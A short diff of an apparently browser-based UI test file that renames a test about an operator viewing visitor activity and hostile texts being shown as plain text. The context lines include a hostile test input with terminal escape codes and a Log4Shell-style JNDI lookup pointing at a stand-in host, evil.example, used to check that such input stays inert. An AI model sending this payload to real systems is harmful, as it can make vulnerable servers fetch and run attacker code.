@@ -50,7 +50,7 @@ const hostile = [
   '\u001b[31mred\u001b[0m \u0024{jndi:ldap://evil.example/a}',
 ]
 
-test('The operator sees the actions of past and current visitors, and a stranger’s texts are shown as text', async ({
+test('The operator sees what past and current visitors did, and hostile texts are shown as text', async ({
   page,
   console,
   dialog,
